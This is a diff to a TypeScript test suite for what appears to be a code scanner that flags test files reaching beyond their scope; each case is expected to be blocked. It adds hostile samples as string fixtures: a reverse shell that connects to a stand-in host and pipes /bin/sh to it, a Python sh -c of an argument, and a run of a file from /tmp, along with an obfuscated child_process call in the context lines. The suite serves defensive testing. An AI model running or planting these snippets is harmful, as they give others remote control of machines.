@@ -265,6 +265,21 @@ describe('scanned languages: what the added code reaches besides processes (fift
       'src/reach.test.ts',
       "const r = (globalThis as any)['req' + 'uire'];\nr('child_' + 'process').execSync('id');\n",
     ],
+    [
+      'a Python test running sh -c of a command from its arguments',
+      'tests/test_argv.py',
+      "import subprocess, sys\ncmd = sys.argv[-1]\nsubprocess.run(['sh', '-c', cmd])\n",
+    ],
+    [
+      'a TypeScript test that connects out and hands the socket a shell',
+      'src/back.test.ts',
+      "const net = require('net'); const cp = require('child_process');\nconst c = net.connect(4444, '203.0.113.7', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
+    ],
+    [
+      'a Python test running a file from /tmp',
+      'tests/test_runpy.py',
+      "import runpy\nrunpy.run_path('/tmp/x.py')\n",
+    ],
   ])('%s is not allowed', async (_name, file, text) => {
     const d = await write(file, text);
     expect(d.decision.verdict, d.decision.reason).not.toBe('allow');
